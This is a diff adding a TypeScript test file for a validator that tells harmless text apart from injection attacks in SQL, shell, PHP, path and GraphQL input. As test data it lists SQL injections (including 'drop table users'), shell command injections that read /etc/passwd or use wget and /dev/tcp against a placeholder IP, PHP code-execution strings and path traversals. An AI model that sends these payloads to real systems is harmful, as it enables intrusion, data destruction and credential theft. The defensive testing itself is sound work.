@@ -1,0 +1,170 @@
+import assert from 'node:assert/strict'
+import { test } from 'node:test'
+import { whyHarmlessCommands } from './commands.ts'
+import { stringsOfGraphql } from './graphql.ts'
+import { whyHarmlessPaths } from './paths.ts'
+import { whyHarmlessPhp } from './php.ts'
+import { whyHarmlessSql } from './sql.ts'
+import { lengthMax } from './text.ts'
+
+type Analysis = (value: string) => string | undefined
+
+const bytes = (text: string) => Buffer.from(text, 'utf8').toString('latin1')
+
+/** Attacks stand alone, and in front of, behind and between sentences. */
+function surrounded(attack: string): string[] {
+  const words = 'please read this text about our table'
+  return [attack, `${words} ${attack}`, `${attack} ${words}`, `${words}\n${attack}\n${words}`]
+}
+
+function judges(analysis: Analysis, harmless: readonly string[], harmful: readonly string[]): void {
+  for (const text of harmless) assert.ok(analysis(bytes(text)), text)
+  for (const attack of harmful) {
+    for (const text of surrounded(attack)) assert.equal(analysis(bytes(text)), undefined, text)
+  }
+}
+
+test('SQL: sentences and documents change no statement, and what reads as SQL anywhere in them does', () => {
+  judges(
+    whyHarmlessSql,
+    [
+      'Select the items from the list and update your order',
+      "It's for Mondays; select & sum",
+      'He said "select one from these", and we did.',
+      "She looked up; he didn't. -- end of the story",
+      'The union of both sets, and the order of the tables',
+      '{"where":{"and":[{"title":{"like":"%a%"}},{"id":{"gt":3}}]}}',
+    ],
+    [
+      "1'/**/or/**/1=1--",
+      "x' or 'a'='a",
+      "admin' --",
+      "1' and sleep(5)",
+      '1 or 1=1',
+      "O'Brien' or '1'='1",
+      "'; drop table users",
+      "x' union all select null, null from dual",
+      'select password from users where id = 1',
+      "insert into users values (1, 'a')",
+      'update users set admin = 1',
+      "x' order by 5",
+      "' || (select 1) || '",
+      'case when 1=1 then 2 else 3 end',
+      '’ or 1=1',
+      '{"user": {"$ne": null}}',
+    ],
+  )
+})
+
+test('commands: none stands in sentences, and one behind a separator is found', () => {
+  judges(
+    whyHarmlessCommands,
+    [
+      "It's for Mondays; select & sum",
+      'Find the house by the river; who was there, and when?',
+      'a=1&id=5&sort=name',
+      'See https://example.org/a?b=1 & the rest of it',
+      'query { book(id: 1) { id title } }',
+    ],
+    [
+      '; cat /etc/passwd',
+      '| id |',
+      '`whoami`',
+      '$(id)',
+      "; w'h'oami",
+      '; w\\hoami',
+      ';{cat,/etc/passwd}',
+      '&& wget http://192.0.2.1/x',
+      '; /usr/bin/who*mi',
+      '() { :;}; x',
+      '> /dev/tcp/192.0.2.1/80',
+      '; X=1 id',
+    ],
+  )
+})
+
+test('PHP: brackets of sentences call nothing', () => {
+  judges(
+    whyHarmlessPhp,
+    ['We met (as always) at noon, and the "others" (both of them) came later.'],
+    [
+      '<?php echo 1;',
+      "system('id')",
+      "'sys'.'tem'('id')",
+      '(system)(id)',
+      '$_GET[0]',
+      'O:8:"stdClass":0:{}',
+      'call_user_func',
+      'phar://x',
+    ],
+  )
+})
+
+test('paths: a sentence that mentions a file names none', () => {
+  judges(
+    whyHarmlessPaths,
+    [
+      'The settings are in /etc/hosts, as on every system that we know.',
+      'https://example.org/docs/etc/passwd',
+    ],
+    ['../../etc/passwd', '..%2f..%2fetc', 'file:///etc/passwd', '%c0%ae%c0%ae/'],
+  )
+  assert.equal(whyHarmlessPaths('/etc/passwd'), undefined)
+  assert.equal(whyHarmlessPaths('passwd'), undefined)
+})
+
+test('GraphQL: whole documents alone, without comments', () => {
+  assert.deepEqual(
+    stringsOfGraphql(
+      'query A($a: [Int!]! = [1]) @b { c: d(e: {f: "g\\u0041", h: $a}) { ...i ... on J { k } } }',
+    ),
+    ['gA'],
+  )
+  assert.deepEqual(stringsOfGraphql('{ a } fragment b on C { d(e: """f""") }'), ['f'])
+  for (const text of [
+    '{ a',
+    '{ a } ; id',
+    '{ a(b: ) }',
+    '{}',
+    '{ a # b\n }',
+    'query',
+    '{ a(b: "c) }',
+    '{ `id` }',
+  ]) {
+    assert.equal(stringsOfGraphql(text), undefined, text)
+  }
+})
+
+test('time is bounded, whatever the value', () => {
+  const pieces = [
+    '(',
+    "' or ",
+    'select a,',
+    'or not ',
+    '"/',
+    '>/',
+    '{"a":',
+    '{ a ',
+    "' ",
+    '`a ',
+    '; find ',
+    ')/*',
+    'explain ',
+    'a.',
+    '$ ',
+    '[',
+    '--',
+    '[[',
+    '/a',
+    '%a',
+  ]
+  for (const piece of pieces) {
+    const value = piece.repeat(Math.floor(lengthMax / piece.length))
+    for (const analysis of [whyHarmlessSql, whyHarmlessCommands, whyHarmlessPhp, whyHarmlessPaths]) {
+      const start = process.cpuUsage()
+      analysis(value)
+      assert.ok(process.cpuUsage(start).user < 2_000_000, `${analysis.name} of ${piece}`)
+    }
+    assert.equal(whyHarmlessSql(`${value}${value}`), undefined)
+  }
+})
